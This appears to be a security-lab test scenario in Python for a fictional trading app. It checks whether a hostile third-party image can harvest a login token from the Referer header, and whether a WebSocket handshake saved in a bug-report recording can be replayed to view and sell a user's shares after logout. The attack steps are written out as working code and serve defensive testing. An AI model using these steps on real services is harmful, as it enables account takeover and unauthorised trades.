"""A token is read in a Referer; what a bug report kept of one handshake is used again."""

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any
from urllib.parse import parse_qsl, quote, urlsplit

from lab.harness import Outcome, Refused, Session, Socket, Target

BROWSER = True
BY_HAND = True
WHY = (
    "The token is out of the address, has all its claims verified and ends after a minute. Within "
    "the minute it opens as many sockets as one likes, after the logout too."
)
LOG_IN = """body => fetch("/auth/login", {
    method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify(body),
}).then(answer => answer.status)"""
TRAIL = frozenset({"authn_token_reuse"})


def opened_by_page(answer: dict[str, Any]) -> tuple[str, list[str]]:
    """Path and subprotocols with which the page's script opens its socket."""
    if "url" in answer:
        return answer["url"], answer.get("protocols", [])
    return "/ws/portfolio", ["stormdoor.v1", f"stormdoor.ticket.{answer['ticket']}"]


@asynccontextmanager
async def page(target: Target, session: Session) -> AsyncIterator[tuple[Socket, str, list[str]]]:
    """The page of who is logged in, with its socket; and what its handshake was."""
    body = {"endpoint": "/ws/portfolio"}
    answer = await target.request("POST", "/auth/ticket", session=session, body=body)
    path, protocols = opened_by_page(answer.json())
    async with target.connect(path, subprotocols=protocols, who=session.who) as socket:
        yield socket, path, protocols


async def legitimate(target: Target) -> None:
    """A logged-in user sees the own shares, and sells."""
    async with page(target, await target.login("alice")) as (socket, _, _):
        assert (await socket.receive())["owner"] == "alice"
        assert await socket.ask({"type": "sell", "what": "TIN"}) == {"type": "sold", "what": "TIN"}


async def attack(target: Target) -> Outcome:
    """Read the Referer of a picture; then repeat a handshake, beside its socket and after the logout."""
    won = []
    if await read_referer(target):
        won.append("sees what alice owns with a token from a Referer")
    alice = await target.login("alice")
    async with page(target, alice) as (socket, path, protocols):
        await socket.receive()
        target.note("the handshake of alice is in a recording that she attached to a bug report")
        if await replay(target, path, protocols):
            won.append("sells it with the handshake from a recording")
    await target.request("POST", "/auth/logout", session=alice)
    target.note("alice has logged out")
    if await replay(target, path, protocols):
        won.append("does so after her logout too")
    return target.outcome(
        bool(won), ", ".join(won) or "no address tells, no recording opens anything"
    )


async def read_referer(target: Target) -> bool:
    """Return whether the owner of a picture on the victim's page learns the victim's credential."""
    picture = f"{target.hostile.foreign}/advertisement.png"
    async with page(target, await target.login("mallory")) as (socket, _, _):
        await socket.receive()
        assert (await socket.ask({"type": "advertise", "picture": picture}))["type"] == "shown"
    body = {"username": "alice", "password": target.users["alice"]}
    async with target.browser() as profile:
        tab = await profile.new_page()
        await tab.goto(f"{target.http}/portfolio")
        assert await tab.evaluate(LOG_IN, body) < 400
        target.write("alice", ">", "logs in with her browser, and looks at her portfolio")
        await tab.goto(f"{target.http}/portfolio")
    assert target.hostile.seen, "the page shows no advertisement"
    for path, headers in target.hostile.seen:
        referer = headers.get("Referer", "")
        target.write("thief", "<", f"GET {path}, Referer: {referer or '(none)'}")
        for _, value in parse_qsl(urlsplit(referer).query):
            if await replay(target, f"/ws/portfolio?token={quote(value)}", [], then_sell=False):
                return True
    return False


async def replay(
    target: Target, path: str, protocols: list[str], *, then_sell: bool = True
) -> bool:
    """Return whether the attacker sees alice's shares, and sells them."""
    try:
        async with target.connect(path, subprotocols=protocols, who="thief") as socket:
            if (await socket.receive()).get("owner") != "alice":
                return False
            if not then_sell:
                return True
            return bool((await socket.ask({"type": "sell", "what": "GOLD"}))["type"] == "sold")
    except Refused:
        return False
